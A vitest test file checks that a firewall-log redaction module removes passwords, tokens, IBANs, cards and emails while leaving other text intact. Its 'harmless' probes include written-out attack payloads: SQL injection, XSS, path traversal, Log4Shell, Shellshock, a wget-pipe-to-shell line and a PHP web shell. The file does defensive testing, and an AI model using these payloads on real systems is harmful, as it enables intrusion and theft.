import { readFileSync } from 'node:fs'

import { expect, test } from 'vitest'

import type { SentEvent } from '../../../contract/websites/attack.ts'
import { eventReader, sentEventsIn } from './read-event.ts'
import { redact, redactMatch } from './redact.ts'

/** Each contains S3CRET, or what is between ⟦ and ⟧. */
const secrets = [
  '&#112;assword=S3CRET',
  '&#x70;assword=S3CRET',
  'X-Auth: S3CRET',
  'q=⟦sk-ant-api03-Zx81kQp0aWm7Rt5⟧',
  'q=⟦sk-9fK2mQ8xR4tY6uI1oP3aS5dF7gH0jL2zX4cV6bN8⟧',
  'q=⟦npm_9fK2mQ8xR4tY6uI1oP3aS5dF7gH0jL2zX4cV⟧',
  'q=⟦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⟧',
  'q=⟦SG.9fK2mQ8xR4tY6uI1oP3a.S5dF7gH0jL2zX4cV6bN8⟧',
  // Signed addresses, keys and single sign-on.
  'sv=2024-11-04&sig=S3CRET&se=2026-12-01',
  'AccountName=shop;AccountKey=S3CRET;EndpointSuffix=core.windows.net',
  'encryption_key=S3CRET',
  '{"signingKey":"S3CRET"}',
  'code_verifier=S3CRET',
  'client_assertion=S3CRET',
  'SAMLResponse=S3CRET',
  'url=https://hooks.slack.com/services/⟦T0AB1/B0CD2/9fK2mQ8xR4⟧',
  'url=https%3A%2F%2Fdiscord.com%2Fapi%2Fwebhooks%2F⟦1234567890%2F9fK2mQ8xR4⟧',
  // Fields in ten languages and more, in each kind of body.
  'password=S3CRET&user=ada',
  'user[passwd]=S3CRET',
  '{"user":"ada","passphrase":"S3CRET"}',
  '<login><user>ada</user><password>S3CRET</password></login>',
  '<wsse:Password Type="PasswordText">S3CRET</wsse:Password>',
  'form-data; name="password"\r\n\r\nS3CRET\r\n--xyz',
  'kennwort=S3CRET&name=ada',
  '{"Kennwort":"S3CRET"}',
  '<kennwort>S3CRET</kennwort>',
  'neues_passwort=S3CRET',
  'passwort%5Bneu%5D=S3CRET',
  'geheimzahl=S3CRET',
  '<Geheimnis>S3CRET</Geheimnis>',
  '{"api-schlüssel":"S3CRET"}',
  'zugangscode=S3CRET',
  'mot_de_passe=S3CRET',
  '{"motDePasse":"S3CRET"}',
  '<mot-de-passe>S3CRET</mot-de-passe>',
  'nouveau_mot_de_passe=S3CRET',
  'mdp=S3CRET&x=1',
  'form-data; name="mot_de_passe"\r\n\r\nS3CRET\r\n--xyz',
  'jeton=S3CRET',
  'code_pin=S3CRET',
  'contraseña=S3CRET',
  'contrase%C3%B1a=S3CRET&usuario=ada',
  '{"contraseña":"S3CRET"}',
  '{"contrase\\u00f1a":"S3CRET"}',
  '<contraseña>S3CRET</contraseña>',
  'contrasena_nueva=S3CRET',
  'clave=S3CRET',
  'codigo_de_seguridad=S3CRET',
  '{"chave":"S3CRET"}',
  'clave_de_acceso=S3CRET',
  'senha=S3CRET',
  '{"novaSenha":"S3CRET"}',
  '<senha>S3CRET</senha>',
  'palavra-passe=S3CRET',
  'segredo=S3CRET',
  'parola_d_ordine=S3CRET',
  'codice_segreto=S3CRET',
  'wachtwoord=S3CRET',
  '{"nieuwWachtwoord":"S3CRET"}',
  '<wachtwoord>S3CRET</wachtwoord>',
  'hasło=S3CRET',
  'has%C5%82o=S3CRET',
  '{"noweHasło":"S3CRET"}',
  'пароль=S3CRET',
  '%D0%BF%D0%B0%D1%80%D0%BE%D0%BB%D1%8C=S3CRET',
  '{"новый_пароль":"S3CRET"}',
  '<пароль>S3CRET</пароль>',
  'parol=S3CRET',
  'パスワード=S3CRET',
  '%E3%83%91%E3%82%B9%E3%83%AF%E3%83%BC%E3%83%89=S3CRET',
  '{"暗証番号":"S3CRET"}',
  '<パスワード>S3CRET</パスワード>',
  '密码=S3CRET',
  'şifre=S3CRET',
  '비밀번호=S3CRET',
  // The names that firewalls write.
  'Matched Data: S3CRET found within ARGS:kennwort: S3CRET',
  'Matched Data: S3CRET found within ARGS:json.mot_de_passe: S3CRET',
  'Matched Data: S3CRET found within ARGS:contraseña: S3CRET',
  'Matched Data: S3CRET found within ARGS:json.user.pin: S3CRET',
  'Matched Data: S3CRET found within ARGS:пароль: S3CRET',
  "Matched Data: ' or 1 found within XML:/*: adaS3CRET' or 1",
  "Matched Data: ' or 1 found within XML: adaS3CRET' or 1",
  "Matched \"Operator `Rx' with parameter `or' against variable `ARGS:senha' (Value: `S3CRET' )",
  "Matched \"Operator `Rx' with parameter `or' against variable `XML:/*' (Value: `S3CRET' )",
  "Matched \"Operator `Rx' with parameter `or' against variable `ARGS:q' (Value: `password=S3CRET' )",
  // The match itself is a copy of the secret, also after the rule decoded it.
  'Matched Data: S3CRET found within ARGS:q: password=S3CRET',
  'Matched Data: S3CRET found within ARGS:q: {"mot de passe":"S3CRET"}',
  'Matched Data: S3CRET found within XML:/*: adaS3CRET',
  "Matched Data: ⟦s3'cr3t⟧ found within ARGS:q: user=ada&pwd=S3%27CR3T",
  'Matched Data: 3CRET found within REQUEST_BODY: x=1&kennwort=S3CRET',
  // Names with spaces.
  '{"mot de passe":"S3CRET"}',
  '{"my pin": "S3CRET"}',
  'mot+de+passe=S3CRET',
  'mein%20Kennwort=S3CRET&x=1',
  // Credentials of programs.
  'access_token=S3CRET',
  'Authorization: Bearer S3CRETS3CRET',
  'X-Api-Key: S3CRET',
  '{"client_secret":"S3CRET"}',
  'auth_code=S3CRET',
  'code=S3CRET&state=a',
  'otp=S3CRET',
  'totp_code=S3CRET',
  'user[pin]=S3CRET',
  'postgres://app:S3CRET@db.internal/shop',
  'PHPSESSID=S3CRET',
  // Accounts of banks, with a valid checksum.
  'konto=⟦DE89370400440532013000⟧',
  'to ⟦GB82 WEST 1234 5698 7654 32⟧ please',
  '{"account":"⟦FR1420041010050500013M02606⟧"}',
  '<to>⟦NL91ABNA0417164300⟧</to>',
  'x=⟦ES91+2100+0418+4502+0005+1332⟧&y=1',
  '⟦it60x0542811101000000123456⟧',
  'PL ⟦PL61 1090 1014 0000 0712 1981 2874⟧ now',
  'n=⟦CH9300762011623852957⟧',
  'n=⟦AT611904300234573201⟧;',
  'n=⟦BE68%205390%200754%207034⟧',
  // Cards, with a valid check digit.
  'n=⟦4111111111111111⟧',
  'n=⟦5555 5555 5555 4444⟧',
  'n=⟦3782 822463 10005⟧',
  '{"pan":⟦6011111111111117⟧}',
  'n=⟦3530-1113-3330-0000⟧',
  'n=⟦30569309025904⟧.',
  'n=⟦2223003122003222⟧',
  'n=⟦4111%201111%201111%201111⟧',
  // People's addresses.
  'q=⟦ada@example.com⟧',
  'mail=⟦ada.lovelace+shop%40example.co.uk⟧&x=1',
  '{"to":"⟦ada@mail.example.org⟧"}',
  '/users/⟦ada@example.com⟧/orders',
  '<a>⟦josé@example.es⟧</a>',
  'Matched Data: -- found within ARGS:q: ⟦o.brien@example.ie⟧--',
  // More names of codes, keys and answers.
  ...(
    'new_pin card_pin pin1 pass_confirm pass_confirmation passConfirm cc_number security_answer backup_codes ' +
    'recovery_phrase sicherheitscode geheimcode freischaltcode bestaetigungscode bestätigungscode code_securite ' +
    'code_de_sécurité clé_api cle_privee mi_clave confirmar_clave claveUsuario clave_actual codigo_verificacion ' +
    'chave_privada chave_de_api palavra_de_passe codice_di_sicurezza codice_pin parola_di_accesso chiave_segreta ' +
    'chiave_privata beveiligingscode verificatiecode geheime_sleutel kod_dostępu klucz_api код_подтверждения ' +
    'кодовое_слово parol2 セキュリティコード 認証コード パスコード 验证码 驗證碼 user[pin][] json.pin.0 tokens'
  )
    .split(' ')
    .map((name) => `${name}=S3CRET&q=1`),
  // Fields whose name is in another place.
  'form-data; name=password\r\n\r\nS3CRET',
  "form-data; name='password'\r\n\r\nS3CRET\r\n--xyz",
  '<param name="password">S3CRET</param>',
  '<field name="kennwort">S3CRET</field>',
  '<param name="password"><value>ada</value>S3CRET</param>',
  '<entry><key>password</key><value>S3CRET</value></entry>',
  '<item><key type="a">password</key><value type="a">S3CRET</value></item>',
  '<dict><key>password</key><string>S3CRET</string></dict>',
  '<add key="password" value="S3CRET"/>',
  '<input value="S3CRET" name="password">',
  "<input value=S3CRET name='password'>",
  '<password><b>x</b>S3CRET</password>',
  '<password><password>x</password>S3CRET</password>',
  '{"value":"S3CRET","name":"password"}',
  '{"value":"a\\"S3CRET","type":"text","key":"password"}',
  '{"key":"password","value":"S3CRET"}',
  '{"key":"1","name":"password","value":"S3CRET"}',
  '{"value":"S3CRET","key":"1","name":"password"}',
  '<param key="1" name="password">S3CRET</param>',
  '{\\"value\\":\\"S3CRET\\",\\"name\\":\\"password\\"}',
  'Matched Data: S3CRET found within XML:/*/text(): adaS3CRET',
  'Matched Data: S3CRET found within XML:/soap:Envelope/soap:Body//text(): S3CRET',
  'Matched Data: S3CRET found within ARGS:json.pin.0: S3CRET',
  'Matched Data: S3CRET found within ARGS:user[pin][]: S3CRET',
  // Values of several words, after the rule decoded the form.
  'Matched Data: or 1=1 found within REQUEST_BODY: user=ada&password=correct horse S3CRET or 1=1',
  'Matched Data: ⟦or 1=1⟧ found within REQUEST_BODY: user=ada&password=correct horse or 1=1',
  'Matched Data: or 1=1 found within QUERY_STRING: password=correct horse S3CRET or 1=1&q=1',
  "Matched \"Operator `Rx' with parameter `or' against variable `REQUEST_BODY' (Value: `user=ada&password=correct horse S3CRET' )",
  // Copies that are long, or far from what they copy.
  `Matched Data: ${'a b '.repeat(150)}S3CRET found within ARGS:q: password="${'a b '.repeat(150)}S3CRET"`,
  `Matched Data: S3CRET found within ARGS:q: ${'a=b&'.repeat(300)}password=S3CRET`,
  `Matched Data: S3CRET found within ARGS:q: ${'a=b&'.repeat(30_000)}password=S3CRET`,
  // Credentials of programs, and cards of each length.
  'sent as Basic ⟦QWRhOm9wZW4gc2VzYW1l⟧',
  'see ⟦ASIAIOSFODNN7EXAMPLE⟧.',
  'n=⟦4222222222222⟧',
  'n=⟦6759649826438453⟧',
]

const harmless = [
  'client_assertion_type=jwt-bearer',
  'assertions=3',
  'sigma=1',
  'design=blue',
  'primary_key=7',
  'account_keywords=garden',
  'master_keyboard=de',
  'url=https://slack.com/services/new',
  'url=https://discord.com/api/channels/1234567890',
  'q=sk-ant',
  'page=risk-ant-hill',
  'size=SG.1',
  'pip install sk-learn',
  'lang=sk-SK&page=/sk-bratislava-stare-mesto-a-okolie',
  'from hf_hub import npm_config_registry',
  'xauthor=ada',
  'a&#60;b&#x3c;c',
  // Names that contain a part of a secret’s.
  'codigo_de_barras=4006381333931',
  'code_postal=75001',
  'palavra_chave=sapatos',
  // Numbers that aren't cards or accounts.
  'order=4111111111111112',
  'order=1772355330123',
  'order=17723553301234567',
  'order_id=1000000000000008',
  'tracking=00340434161094042557',
  'ean=4006381333931x',
  'isbn=978-3-16-148410-0',
  'phone=+49 30 901820',
  'tel=0800-123-4567',
  'id=550e8400-e29b-41d4-a716-446655440000',
  'id=7b5c41f0-4111-1111-1111-111111111111',
  'trace=00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01',
  'etag=W/"4f9a1c77e02b4532015112830366"',
  'sha=3f786850e387550fdab836ed7e6dc881de23001b',
  'ref=DE89370400440532013001',
  'sku=DE12-4455-AB',
  'vat=DE136695976',
  'product=AB12CD34',
  'gtin=GB00123456789012',
  'flight=LH1234',
  'price=1,234.56',
  'ip=203.0.113.77',
  'ip=2001:db8:51::9',
  'at=2026-03-01T08:58:12.123456Z',
  'geo=52.520008,13.404954',
  'v=1.22.1',
  'Mozilla/5.0 (X11; Linux x86_64; rv:135.0) Gecko/20100101 Firefox/135.0',
  'curl/7.88.1',
  'sqlmap/1.8.2#stable (https://sqlmap.org)',
  // Addresses that aren't people's.
  'react@18.2.0',
  '/npm/lodash@4.17.21/lodash.min.js',
  '/npm/@scope/package@1.0.0',
  '/img/logo@2x.png',
  '@import url(a.css)',
  '@media (min-width: 40em)',
  'q=meet @ noon',
  '@username',
  'user@localhost',
  'https://example.com/a?b=c#d',
  'http://192.0.2.1:8080/manager/html',
  // Fields that only sound like secrets.
  'passport=no',
  'bypass=1',
  'compass=north',
  'author=ada',
  'authors=ada,grace',
  'author_id=7',
  'secretary=ada',
  'postcode=10115',
  'zipcode=94107',
  'country_code=DE',
  'product_code=AB-12',
  'promocode=SPRING',
  'errorcode=404',
  'statusCode=200',
  'language-code=de',
  'unicode=1',
  'footprint=9',
  'hotproducts=1',
  'shipping=express',
  'spinner=on',
  'schluesselwort=garten',
  'palabra_clave=jardin',
  'parola_chiave=giardino',
  'mots_cles=jardin',
  'clavel=rojo',
  'passage=2',
  'ключевое_слово=сад',
  'キーワード=庭',
  '关键词=花园',
  'email_opt_in=1',
  'keyboard=de',
  'monkey=1',
  'key=AB12',
  'sort=price&dir=asc',
  'page=2&per_page=50',
  // Attacks, whose text is what the log is for.
  "id=1' UNION SELECT name FROM users--",
  "q=' OR '1'='1",
  'q=1;WAITFOR DELAY 0:0:5--',
  'file=../../../../etc/passwd',
  'file=..%2f..%2fetc%2fshadow',
  'q=<script>alert(document.domain)</script>',
  'q=<img src=x onerror=alert(1)>',
  'q=<svg/onload=alert(1)>',
  '${jndi:ldap://192.0.2.1:1389/a}',
  '() { :;}; /bin/bash -c "cat /etc/passwd"',
  '; wget http://192.0.2.1/x.sh -O- | sh',
  '<?php system($_GET["c"]); ?>',
  '/.git/config',
  '/wp-admin/setup-config.php?step=1',
  '/cgi-bin/luci/;stok=/locale?form=country',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '{"$where":"sleep(5000)"}',
  '{{7*7}}',
  '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>',
  'Matched Data: ../ found within ARGS:name: ../../etc/passwd',
  "Matched Data: s&sUE found within ARGS:id: 1' UNION SELECT name FROM users--",
  "Matched Data: union select found within ARGS:id: 1' UNION  SELECT name FROM users--",
  '{"date of birth":"1815-12-10"}',
  '{"first name":"Ada","last name":"Lovelace"}',
  'nom+de+famille=Lovelace',
  '{"opening hours":"9-17"}',
  '{"code postal":"75001"}',
  'q=sum 1+1=2',
  'Matched Data: etc/passwd found within ARGS:q: x=1&file=/etc/passwd',
  '{"mots clés":"jardin"}',
  'Matched Data: sqlmap found within REQUEST_HEADERS:User-Agent: sqlmap/1.8',
  // The rule's own text names what it looks for.
  "Matched \"Operator `Rx' with parameter `(?i)(?:password=|token: )\\w+' against variable `ARGS:q' (Value: `1 or 2' )",
  'Pattern match "(?i)password=|api_key: [a-z]+" at ARGS:q.',
  'String match "me" at ARGS:redirect.',
  'String match "password=1" at ARGS:q.',
  'String match within "password=1 token=2" at ARGS:q.',
  'Match of "rx ^(?:password=\\\\w+)$" against "REQUEST_BODY" required.',
  'Match of "within token=1 code=2" against "ARGS:q" required.',
  'Matched phrase "token=abc" at ARGS:q.',
  `String match within "${'password=1 '.repeat(100)}" at ARGS:q.`,
  `Matched Data: union select found within ARGS:q: ${'a=b&'.repeat(300)}q=union select`,
  'Matched Data: or 1=1 found within REQUEST_BODY: user=ada&note=correct horse or 1=1',
  'Matched Data: sUE found within REQUEST_BODY: q=1 or password&page=2',
  // More names that contain a part of a secret’s.
  ...(
    'authenticated possession obsession секретарь secretaire secrétaire geheimnisvoll passwordless max_tokens ' +
    'max_new_tokens total_tokens tokenizer tokeniser cookie_consent cookie_policy boarding_pass season_pass ' +
    'wachtwoordenboek enclave autoclave enclave_api en_clave palabra_clave_actual shopping mapping pine spin topping ' +
    'typing bypass_confirm vehicle_api article_api barcodes zipcodes status_codes product_codes ' +
    'codigo_postal código_de_área codice_fiscale code_barre clef_de_voûte mots_clefs chave_estrangeira chiave_inglese ' +
    'sleutelwoord postcodes kod_pocztowy słowo_kluczowe секретариат почтовый_код 郵便番号 邮政编码 parolimpic ccnews'
  )
    .split(' ')
    .map((name) => `${name}=1`),
  // Words and identities that only look like credentials and cards.
  'Basic knowledge of SQL',
  'basic authentication is off',
  'basic information',
  'gha_workflow_name_long',
  'ASIAN_GAMES_2026_TICKETS',
  'ASIAPACIFICREGION2026',
  'imei=490154203237518',
  'imei=356938035643809',
  'Visa 4111 1111 1111 1112',
  // Elements and fields that are not secret.
  '<param name="city">Paris</param>',
  '<entry><key>city</key><value>Paris</value></entry>',
  '<add key="city" value="Paris"/>',
  '<input value="Paris" name="city">',
  '<input name="password"> Paris',
  '<property name="password"/><city>Paris</city>',
  '{"value":"Paris","name":"city"}',
  '{"key":"1","name":"city","value":"Paris"}',
  '{"value":"Paris","key":"1","name":"city"}',
  '<param key="1" name="city">Paris</param>',
  'form-data; name=city\r\n\r\nParis\r\n--xyz',
]

test('there are more than 380 probes, half of which are harmless', () => {
  expect([secrets.length, harmless.length]).toEqual([212, 212])
})

test.for(secrets)('a secret, an account, a card or an address is removed: %s', (probe) => {
  const secret = /⟦(.*)⟧/.exec(probe)?.[1] ?? 'S3CRET'
  const text = probe.replace(/[⟦⟧]/g, '')
  expect(redactMatch(text)).not.toContain(secret)
  expect(redactMatch(text)).toContain('[redacted]')
})

test.for(harmless)('a text without secrets is unchanged: %s', (text) => {
  expect(redactMatch(text)).toBe(text)
  // Only a match quotes the rule.
  const isQuoted = /^(?:Match|Pattern|String)/.test(text)
  expect(isQuoted ? text : redact(text)).toBe(text)
})

test('the texts of the rules themselves are never redacted', () => {
  const read = eventReader(new Date('2026-03-01T09:00:00Z'))
  for (const message of [
    'Possible password=... in the query string',
    'Session Fixation: Setting Cookie Values in HTML',
    'Authorization: Basic used without TLS, contact waf@example.com',
  ]) {
    const event = {
      occurred_at: '2026-03-01T08:30:00Z',
      action: 'blocked',
      address: '192.0.2.1',
      method: 'GET',
      path: '/',
      rule_message: message,
    }
    expect(read(event)).toMatchObject({ ruleMessage: message })
  }
})

test('passwords in forms, JSON and XML that ModSecurity 2 and 3 logged are not stored', () => {
  const password = "x' or 1=1 union select 1--"
  for (const file of ['nginx-modsecurity3-crs3', 'apache-modsecurity2-crs3']) {
    const lines = readFileSync(`server/websites/attacks/samples/${file}.ndjson`, 'utf8')
    const read = eventReader(new Date('2026-11-23T19:00:00Z'))
    const logged = lines
      .split('\n')
      .filter((line) => /"X-Case":"(?:form|json|xml)password"/.test(line))
    expect(logged.length).toBeGreaterThan(0)
    for (const line of logged) {
      expect(line).toContain(password)
      const events = (sentEventsIn(JSON.parse(line)) as SentEvent[]).map(read)
      expect(JSON.stringify(events)).not.toContain(password)
      expect(JSON.stringify(events)).toContain('[redacted]')
    }
  }
})

/** Registered after the others, or overlooked. */
test.for([
  'BI1830741852963074185296307',
  'DJ9430741852963074185296307',
  'FK3830741852963074',
  'HN13307418529630741852963074',
  'MN413074185296307418',
  'NI71307418529630741852963074',
  'OM783074185296307418529',
  'RU1330741852963074185296307418529',
  'SO363074185296307418529',
  'YE6330741852963074185296307418',
])('an IBAN of any country in the registry is redacted: %s', (iban) => {
  expect(redact(`to=${iban}`)).not.toContain(iban)
})
